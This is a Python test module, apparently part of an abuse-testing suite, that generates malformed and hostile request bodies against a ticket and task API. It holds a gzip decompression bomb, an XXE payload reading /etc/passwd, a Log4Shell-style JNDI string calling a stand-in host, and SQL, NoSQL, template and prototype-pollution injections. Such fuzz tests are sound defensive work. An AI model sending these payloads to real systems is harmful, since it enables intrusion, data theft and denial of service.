"""Bodies of callers who may run tasks: what is no JSON that anybody could use, what fits no task, what has no measure."""

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Iterator
from itertools import cycle
from typing import Any

from tests.abuse.credentials import JSON, ROOT, TICKET
from tests.abuse.field import MARK, Field
from tests.abuse.wire import request

WAYS_IN = (f"{ROOT}/open-ticket", f"{ROOT}/execute", f"{ROOT}/triage/stream")


def _with(value: bytes) -> bytes:
    return TICKET.replace(b'"r"', value)


def _deep(chance: random.Random) -> bytes:
    depth = chance.choice((201, 5_000, 100_000))
    opening, closing = chance.choice(((b"[", b"]"), (b'{"a":', b"}")))
    return _with(opening * depth + b"1" + closing * depth)


def _cut(chance: random.Random) -> bytes:
    return TICKET[: chance.randrange(1, len(TICKET))]


def _noise(chance: random.Random) -> bytes:
    return b"\x80" + chance.randbytes(chance.randrange(1, 200))


def _broken(chance: random.Random) -> bytes:
    """One byte of it is another one, of those that JSON has in no place."""
    body = bytearray(TICKET)
    body[chance.randrange(len(body))] = chance.choice(b"\x00\x01\x1f\xff\xc0")
    return bytes(body)


BOMB = gzip.compress(b'{"title":"' + b"a" * 50_000_000 + b'"}')
ALWAYS: tuple[bytes, ...] = (
    b"",
    b" \r\n",
    b"[]",
    b"null",
    b'"text"',
    b"7",
    TICKET + TICKET,
    TICKET[:-1] + b",}",
    b"\xef\xbb\xbf" + TICKET,
    TICKET.decode().encode("utf-16"),
    TICKET.decode().encode("utf-32"),
    b"+AHs-" + TICKET,
    BOMB,
    b"title=a&description=b",
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    _with(b"NaN"),
    _with(b"Infinity"),
    _with(b"-Infinity"),
    _with(b"1e400"),
    _with(b"-1e999999999"),
    _with(b"9" * 5_000),
    _with(b"9" * 1_000_000),
    _with(b"0" * 1_000),
    _with(b"0x10"),
    _with(b".5"),
    _with(b"'r'"),
    _with(b'"\\ud800"'),
    _with(b'"\\ud83d\\ud83d"'),
    _with(b'"\xed\xa0\x80"'),
    _with(b'"\xff\xfe"'),
    _with(b'"\\u0000"'),
    _with(b'"a\x00b"'),
    _with(b'"\\x41"'),
    _with(b'"\n"'),
    _with(b"[" + b"1," * 60_000 + b"1]"),
    _with(b"[" + b"{}," * 60_000 + b"{}]"),
    b'{"\\udc00":1}',
    TICKET + b"\x00",
    b"/* c */" + TICKET,
)


def no_json(field: Field, chance: random.Random) -> Iterator[bytes]:
    made = (_deep, _cut, _noise, _broken)
    kinds = (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "",
        "text/html,application/json",
    )
    for number in cycle(range(len(ALWAYS) + 2 * len(made) + 3)):
        token = f"Authorization: Bearer {field.any_of('Developer', chance)}"
        where = chance.choice(WAYS_IN)
        if number < len(ALWAYS):
            encoding = ["Content-Encoding: gzip"] if ALWAYS[number] is BOMB else []
            yield request("POST", where, JSON, token, *encoding, body=ALWAYS[number])
        elif number < len(ALWAYS) + 2 * len(made):
            yield request("POST", where, JSON, token, body=made[number % len(made)](chance))
        else:
            yield request("POST", where, f"Content-Type: {chance.choice(kinds)}", token, body=TICKET)


def _unfit(chance: random.Random) -> dict[str, Any]:
    ticket: dict[str, Any] = {"title": MARK, "description": "d", "reporter": "r"}
    name = chance.choice(list(ticket))
    change = chance.choice(("missing", "wrong", "long", "unknown", "nested", "choice"))
    if change == "missing":
        del ticket[name]
    elif change == "wrong":
        ticket[name] = chance.choice((None, 7, True, [], {}, ["a"], {"$ne": 1}, 10**300, "", " \t "))
    elif change == "long":
        ticket[name] = MARK + "x" * 500_000
    elif change == "unknown":
        unknown = chance.choice(
            ("__proto__", "constructor", "__class__", "agent", "replay_of", "k" * 100_000, "\u202e")
        )
        ticket[unknown] = {"polluted": True}
    elif change == "nested":
        value: Any = MARK
        for _ in range(150):
            value = [value]
        ticket[name] = value
    else:
        ticket["impact"] = chance.choice(
            ("galaxy", "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.example}", 1)
        )
    return ticket


def unfit(field: Field, chance: random.Random) -> Iterator[bytes]:
    while True:
        token = f"Authorization: Bearer {field.any_of('Developer', chance)}"
        value = _unfit(chance)
        if chance.random() < 0.5:
            yield request("POST", WAYS_IN[0], JSON, token, body=json.dumps(value).encode())
        else:
            body = {"task": "open-ticket", "input": value}
            yield request("POST", WAYS_IN[1], JSON, token, body=json.dumps(body).encode())


def huge(field: Field, chance: random.Random) -> Iterator[bytes]:
    while True:
        token = f"Authorization: Bearer {field.any_of('Developer', chance)}"
        yield request("POST", WAYS_IN[0], JSON, token, body=b"x" * (5 * 2**20))
        yield request("POST", WAYS_IN[0], JSON, body=b"x" * 2**20)
        yield request("GET", "/healthz", "X: " + "x" * 200_000)
        yield request("GET", "/healthz", *(f"X-{number}: y" for number in range(10_000)))
        yield request("GET", "/" + "x" * 100_000)
        yield request("POST", WAYS_IN[0], JSON, "Authorization: Bearer " + "x" * 100_000, body=TICKET)
